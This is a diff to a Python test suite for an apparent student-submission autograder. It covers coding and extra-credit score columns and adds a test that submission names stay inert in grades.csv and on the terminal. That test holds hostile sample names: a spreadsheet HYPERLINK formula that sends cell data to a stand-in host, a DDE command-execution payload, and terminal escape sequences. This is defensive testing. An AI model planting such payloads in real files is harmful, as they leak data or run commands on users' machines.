@@ -107,7 +107,9 @@ def test_a_class_is_graded_into_one_row_per_submission(graded, data):
         assert rows[name]["graded"] == "yes", rows[name]
         assert [rows[name][t] for t in TESTS] == [f"{POINTS[t]:g}" for t in TESTS], rows[name]
         assert rows[name]["problems"] == "", rows[name]
-    assert rows["alice"]["max"] == rows["frank"]["max"] != ""
+    assert rows["alice"]["coding_max"] == rows["frank"]["coding_max"] == f"{sum(POINTS[t] for t in TESTS):g}"
+    assert rows["alice"]["coding"] == rows["alice"]["total"] == rows["alice"]["coding_max"], rows["alice"]
+    assert rows["alice"]["extra_credit"] == rows["alice"]["extra_credit_max"] == "0"  # none selected
     # accuracy of each prediction file against the answers, computed here independently
     for name, seed in (("alice", 1), ("frank", 6)):
         for fname, text in fake_predictions(data, seed).items():
@@ -124,7 +126,7 @@ def test_broken_zip_import_error_and_missing_files_are_rows_with_a_reason(graded
     _, out, proc = graded
     rows = read_csv(out)
     assert rows["erin"]["graded"] == "no" and "cannot read the submission" in rows["erin"]["problems"]
-    assert rows["erin"]["total"] == ""
+    assert rows["erin"]["total"] == rows["erin"]["coding"] == rows["erin"]["extra_credit"] == ""
     dave = rows["dave"]
     assert dave["graded"] == "yes"
     assert "importing submission/dataset.py raised ModuleNotFoundError" in dave["problems"], dave
@@ -191,8 +193,29 @@ def test_the_reference_earns_the_written_part_and_every_cell_states_its_status(t
     assert proc.returncode == 0, proc.stderr[-3000:]
     row = read_csv(out)["ref"]
     assert sum(float(row[t]) for t in written) == 10 == sum(POINTS[t] for t in written), row
+    # the extra credit apart from the coding points, each of its own maximum; the total is both
+    assert (row["extra_credit"], row["extra_credit_max"]) == ("10", "10"), row
+    assert (row["coding"], row["coding_max"]) == ("1", f"{POINTS['1d-2-basic'] + POINTS['1g-3-hidden']:g}"), row
+    assert row["total"] == "11", row
     assert row["1g-3-hidden"] == "1" and row["1d-2-basic"] == "0", row
     assert "model.py: graded src/submission/model.py" in row["problems"] and "old/model.py" in row["problems"]
+
+
+def test_a_submissions_own_name_is_text_in_grades_csv_and_harmless_on_the_terminal(tmp_path, capsys):
+    """A student names the folder or zip they upload: in grades.csv a name that starts a formula stays text (a
+    spreadsheet shows it, never runs it), and on the terminal an escape sequence or a carriage return in it is
+    printed as its escape, never sent to the terminal."""
+    names = ['=HYPERLINK("http://x.example/?"&B2,"ok")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
+             "\x1b]0;owned\x07\x1b[2Jcarol\rdone"]
+    ordered = [(n, {"graded": False, "problems": ["cannot read the submission"]}) for n in names]
+    out = tmp_path / "grades.csv"
+    class_report.write_report(out, ordered, [], {}, {})
+    with open(out, newline="", encoding="utf-8") as f:
+        cells = [row[0] for row in list(csv.reader(f))[1:]]
+    assert cells[:4] == ["'" + n for n in names[:4]] and cells[4] == names[4]  # not a formula: kept as it was
+    printed = capsys.readouterr().out
+    assert "\x1b" not in printed and "\x07" not in printed and "\r" not in printed
+    assert "\\x1b]0;owned\\x07\\x1b[2Jcarol\\rdone: cannot read the submission" in printed
 
 
 def test_nearly_identical_means_at_least_98_percent_of_lines():
